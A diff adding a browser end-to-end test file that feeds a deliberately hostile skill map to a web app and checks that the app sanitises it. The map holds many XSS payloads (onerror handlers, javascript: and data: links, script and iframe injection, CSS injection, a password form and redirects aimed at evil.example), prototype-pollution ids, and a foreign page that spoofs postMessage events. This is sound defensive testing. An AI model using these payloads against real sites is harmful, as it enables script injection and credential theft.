@@ -1,0 +1,332 @@
+import { Hono } from 'hono';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import type { AuthorFolder } from './support/author-folder.ts';
+import { createAuthorFolder } from './support/author-folder.ts';
+import type { DevSession } from './support/dev-session.ts';
+import { startDev } from './support/dev-session.ts';
+import { routeFakeEditor } from './support/fake-editor-route.ts';
+import { inOrder } from './support/in-order.ts';
+import { launchBrowser } from './support/launch-browser.ts';
+import {
+  backToMap,
+  dialogOf,
+  editorOf,
+  findingsOf,
+  mapOf,
+  nodeOf,
+  openActivity,
+  panelOf,
+  selectNode,
+  stateOf,
+} from './support/map-page.ts';
+import type { ServedApp } from './support/serve-app.ts';
+import { serveApp } from './support/serve-app.ts';
+
+/** Whatever runs calls `ran`; whatever is asked for by a trick asks evil.example. */
+const run = (where: string): string => `ran('${where}')`;
+const long = 'very-long-word-'.repeat(7_000);
+
+const MAP = `# <img src=x onerror="${run('page id')}">
+* name: <script>${run('title')}</script>
+* description: "><img src=https://evil.example/a onerror="${run('description')}"> **bold** [click](javascript:${run('link')}) <svg onload="${run('svg')}">
+* infourl: javascript:${run('infourl')}
+* backgroundurl: javascript:${run('background')}
+* bannerurl: x" onerror="${run('banner')}
+* primarycolor: red;} body { display: none } a {
+* secondarycolor: url(https://evil.example/secondary)
+* tertiarycolor: </style><script>${run('style')}</script>
+* highlightcolor: expression(${run('expression')})
+* lockednodecolor: var(--x, url(https://evil.example/locked))
+* completednodecolor: #fff; background-image: url(https://evil.example/completed)
+
+\`\`\`intro
+**Hello**
+[js](javascript:${run('intro link')}) [js2](JaVaScRiPt:${run('intro link 2')}) [js3](&#106;avascript:${run('intro link 3')})
+[page](data:text/html,<script>${run('intro data')}</script>) [vbs](vbscript:${run('vbs')}) [good](https://example.org/good)
+![js picture](javascript:${run('intro picture')}) ![fine](https://pictures.example/intro.png)
+Inline <a href="javascript:${run('inline link')}">link</a> and <img src=x onerror="${run('inline img')}">
+<script>${run('intro script')}</script>
+<img src=x onerror="${run('intro img')}">
+<iframe srcdoc="<script>parent.${run('intro frame')}</script>" src="https://evil.example/frame"></iframe>
+<style>body { display: none; background: url(https://evil.example/style) }</style>
+<form action="https://evil.example/form"><button>send</button><input name="password"></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<base href="https://evil.example/">
+<a href="javascript:${run('intro html link')}">html link</a>
+\`\`\`
+
+## __proto__
+* name: Proto <b>map</b>
+* description: ]]><script>${run('map')}</script>
+
+### __proto__
+* name: Proto
+* description: <img src=x onerror="${run('node')}"> [run](javascript:${run('node link')}) <details open ontoggle="${run('toggle')}">
+* type: tutorial
+* url: /tutorials/one
+* imageurl: data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg picture')}"/>
+* tags: <script>${run('tag')}</script>, "><img src=x onerror=${run('tag img')}>
+* next: constructor
+
+### constructor
+* name: Constructor
+* type: tutorial
+* url: javascript:${run('tutorial')}
+* imageurl: https://pictures.example/fine.png
+* next: x"]'><script>${run('id')}</script>
+
+### x"]'><script>${run('id')}</script>
+* name: Quotes "'\`><script>${run('name')}</script>
+* type: tutorial
+* url: /tutorials/one
+* imageurl: javascript:${run('picture')}
+* next: tostring
+
+### tostring
+* name: Reward
+* kind: completion
+* actions:
+    * docs: [run](javascript:${run('action')})
+    * map: [<img src=x onerror=${run('label')}>](javascript:${run('map action')})
+* rewards:
+    * certificate:
+        * url: javascript:${run('certificate')}
+        * previewurl: javascript:${run('preview')}
+
+## hasownproperty
+* name: ${long}
+* description: ${long}
+
+### long
+* name: L${long}
+* type: tutorial
+* url: /tutorials/one
+* description: ${long}
+`;
+
+/** What the map may show pictures from: an address without a host is one of the documentation. */
+const PICTURE_HOSTS = /^https:\/\/(?:pictures\.example|arcade\.makecode\.com)\//;
+
+const TUTORIAL = '# One\n\n## First\nHello.\n\n## Second\nThere.\n\n## Third\nDone.\n';
+
+describe('a hostile map', () => {
+  let browser: Browser;
+  let folder: AuthorFolder;
+  let dev: DevSession;
+  let stranger: ServedApp;
+  let context: BrowserContext;
+  let page: Page;
+  const foreign: string[] = [];
+
+  inOrder(() => page);
+
+  beforeAll(async () => {
+    folder = await createAuthorFolder({ 'skillmap.md': MAP, 'tutorials/one.md': TUTORIAL });
+    dev = await startDev(folder.path);
+    stranger = await serveApp(strangersSite());
+    browser = await launchBrowser();
+    context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+    await context.route(
+      (url) => url.hostname !== 'localhost',
+      (route) => {
+        foreign.push(route.request().url());
+        return route.abort();
+      },
+    );
+    await routeFakeEditor(context);
+    await context.addInitScript(() => {
+      const happened: string[] = [];
+      const heard: unknown[] = [];
+      Object.assign(window, { ran: (where: string) => happened.push(where), happened, heard });
+      window.addEventListener('message', ({ data }) => heard.push(data));
+    });
+    page = await context.newPage();
+    await page.goto(dev.url);
+    await mapOf(page).waitFor();
+  });
+
+  afterAll(async () => {
+    await browser?.close();
+    await stranger?.close();
+    expect(await dev?.stop()).toBe(0);
+    await folder?.dispose();
+  });
+
+  const happened = () => page.evaluate(() => (window as unknown as { happened: string[] }).happened);
+
+  /** There are mistakes in the map, so that the author's panel is open. */
+  const foldFindings = () => findingsOf(page).getByRole('button', { name: 'Fold' }).click();
+
+  /** Nothing ran, nobody but hosts of pictures was asked, and no element came in that could do either. */
+  async function expectHarmless(): Promise<void> {
+    expect(await happened()).toEqual([]);
+    expect(foreign.filter((url) => !PICTURE_HOSTS.test(url))).toEqual([]);
+    const dangerous = await page.evaluate(() => {
+      const elements = [...document.querySelectorAll('body *')];
+      const names = new Set(['base', 'embed', 'form', 'link', 'meta', 'object', 'style']);
+      return elements
+        .filter(
+          (element) =>
+            names.has(element.localName) ||
+            (element.localName === 'script' && !element.closest('body > script')) ||
+            element.getAttributeNames().some((name) => name.startsWith('on')) ||
+            /^\s*(?:javascript|vbscript|data:text)/i.test(element.getAttribute('href') ?? '') ||
+            /^\s*javascript/i.test(element.getAttribute('src') ?? ''),
+        )
+        .map((element) => element.outerHTML.slice(0, 200));
+    });
+    expect(dangerous).toEqual([]);
+  }
+
+  test('the introduction is sanitised: no scripts, frames, forms or styles, and only good links', async () => {
+    const introduction = dialogOf(page);
+    await introduction.getByText('Hello', { exact: true }).waitFor();
+    const links = introduction.getByRole('link');
+    expect(await links.evaluateAll((all) => all.map((one) => one.getAttribute('href')))).toEqual([
+      'https://example.org/good',
+    ]);
+    expect(await links.getAttribute('rel')).toContain('noopener');
+    expect(await introduction.locator('iframe, form, input, style, script, img[src^="x"]').count()).toBe(0);
+    expect(foreign).toContain('https://pictures.example/intro.png');
+    await expectHarmless();
+    await introduction.getByRole('button', { name: "Let's go" }).click();
+  });
+
+  test('names and descriptions are text, colours that are none change nothing', async () => {
+    expect(await page.title()).toBe("<script>ran('title')</script>");
+    await panelOf(page).getByRole('heading', { name: "<script>ran('title')</script>" }).waitFor();
+    await mapOf(page).getByRole('heading', { name: 'Proto <b>map</b>' }).waitFor();
+    expect(await page.evaluate(() => getComputedStyle(document.body).display)).toBe('block');
+    await expectHarmless();
+  });
+
+  test('what the author is told about it is text too', async () => {
+    await findingsOf(page).getByRole('listitem').first().waitFor();
+    await expectHarmless();
+    await foldFindings();
+  });
+
+  test('every node can be looked at, and nothing in the panel runs', async () => {
+    for (const name of ['Constructor', `Quotes "'\`><script>ran('name')</script>`, 'Reward', 'Proto']) {
+      await selectNode(page, name);
+      await expectHarmless();
+    }
+    const tags = panelOf(page).getByRole('list', { name: 'Tags' }).getByRole('listitem');
+    expect(await tags.allTextContents()).toEqual([
+      "<script>ran('tag')</script>",
+      "\"><img src=x onerror=ran('tag img')>",
+    ]);
+    expect(foreign).toContain('https://pictures.example/fine.png');
+  });
+
+  test('ids of JavaScript’s own objects are ordinary: completing one opens the next, and lasts', async () => {
+    expect(await stateOf(page, 'Constructor')).toBe('activity 2, locked: complete Proto first');
+    await openActivity(page, 'Proto');
+    for (const step of ['Step 2 of 3', 'Step 3 of 3']) {
+      await editorOf(page).getByRole('button', { name: 'Next step' }).click();
+      await editorOf(page).getByText(step).waitFor();
+    }
+    await editorOf(page).getByRole('button', { name: 'Done' }).click();
+    await expect.poll(() => stateOf(page, 'Proto')).toBe('activity 1, completed');
+    expect(await stateOf(page, 'Constructor')).toBe('activity 2, next to do');
+    await page.reload();
+    await foldFindings();
+    expect(await stateOf(page, 'Proto')).toBe('activity 1, completed');
+    await expectHarmless();
+  });
+
+  test('a tutorial address that would run something is said to be none', async () => {
+    await selectNode(page, 'Constructor');
+    await panelOf(page).getByRole('button', { name: 'Start' }).click();
+    await page.getByRole('alert').getByText('This activity has no tutorial yet.').waitFor();
+    await page.getByRole('alert').getByRole('button', { name: 'Back to the map' }).click();
+    await mapOf(page).waitFor();
+    await expectHarmless();
+  });
+
+  test('texts of a hundred thousand letters leave the page usable', async () => {
+    const name = `L${long}`;
+    await mapOf(page)
+      .getByRole('button', { name: /^Lvery-long-word-/ })
+      .click();
+    await panelOf(page)
+      .getByRole('heading', { name: /^Lvery-long-word-/ })
+      .waitFor();
+    await panelOf(page).getByRole('button', { name: 'Start' }).click();
+    await page.getByTitle(`Editor for ${name}`, { exact: true }).waitFor();
+    await backToMap(page);
+    const scroll = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+    expect(scroll).toBeLessThanOrEqual(0);
+    await nodeOf(page, 'Proto').click();
+    await panelOf(page).getByRole('heading', { name: 'Proto', exact: true }).waitFor();
+  });
+
+  test('§7 messages from another window, or from a foreign page in a frame, are not the editor’s', async () => {
+    await selectNode(page, 'Proto');
+    await panelOf(page).getByRole('button', { name: 'Restart' }).click();
+    await dialogOf(page).getByRole('button', { name: 'Restart' }).click();
+    await editorOf(page).getByText('Step 1 of 3').waitFor();
+    const headerId = await page.evaluate(() => {
+      const { heard } = window as unknown as {
+        heard: { tutorialEvent?: string; projectHeaderId?: string }[];
+      };
+      return heard.findLast(({ tutorialEvent }) => tutorialEvent === 'progress')?.projectHeaderId ?? '';
+    });
+    const speak = `${stranger.origin}/speak.html?header=${headerId}`;
+    await page.evaluate((id) => {
+      for (const tutorialEvent of ['completed', 'exit']) {
+        const message = { type: 'pxthost', action: 'tutorialevent', tutorialEvent, projectHeaderId: id };
+        window.postMessage(message, '*');
+      }
+      window.postMessage('from this window', '*');
+    }, headerId);
+    await expectHeard('from this window');
+    await page.evaluate((src) => {
+      const frame = document.createElement('iframe');
+      frame.src = src;
+      document.body.append(frame);
+    }, speak);
+    await expectHeard('from a stranger');
+    // Had one of them counted, the editor would have been closed.
+    await editorOf(page).getByRole('button', { name: 'Next step' }).click();
+    await editorOf(page).getByText('Step 2 of 3').waitFor();
+    await backToMap(page);
+    expect(await stateOf(page, 'Proto')).toBe('activity 1, completed, started again');
+  });
+
+  test('§7 a frame that was led to a foreign page is not the editor any more', async () => {
+    await openActivity(page, 'Proto', 'Continue');
+    await editorOf(page).getByText('Step 2 of 3').waitFor();
+    await page.evaluate(() => ((window as unknown as { heard: unknown[] }).heard.length = 0));
+    await page
+      .getByTitle('Editor for Proto')
+      .evaluate((frame: HTMLIFrameElement, src) => (frame.src = src), `${stranger.origin}/speak.html`);
+    await expectHeard('from a stranger');
+    await page.reload();
+    await mapOf(page).waitFor();
+    expect(await stateOf(page, 'Proto')).toBe('activity 1, completed, started again');
+    await expectHarmless();
+  });
+
+  async function expectHeard(message: string): Promise<void> {
+    await page.waitForFunction((text) => {
+      return (window as unknown as { heard: unknown[] }).heard.includes(text);
+    }, message);
+  }
+});
+
+/** Another origin, whose page says to whoever frames it what the editor would say. */
+function strangersSite(): Hono {
+  const app = new Hono();
+  app.get('/speak.html', (context) =>
+    context.html(`<!doctype html><title>Stranger</title><script>
+      const projectHeaderId = new URLSearchParams(location.search).get('header') ?? undefined;
+      for (const tutorialEvent of ['completed', 'exit'])
+        parent.postMessage({ type: 'pxthost', action: 'tutorialevent', tutorialEvent, projectHeaderId }, '*');
+      parent.postMessage({ action: 'newproject' }, '*');
+      parent.postMessage('from a stranger', '*');
+    </script>`),
+  );
+  return app;
+}
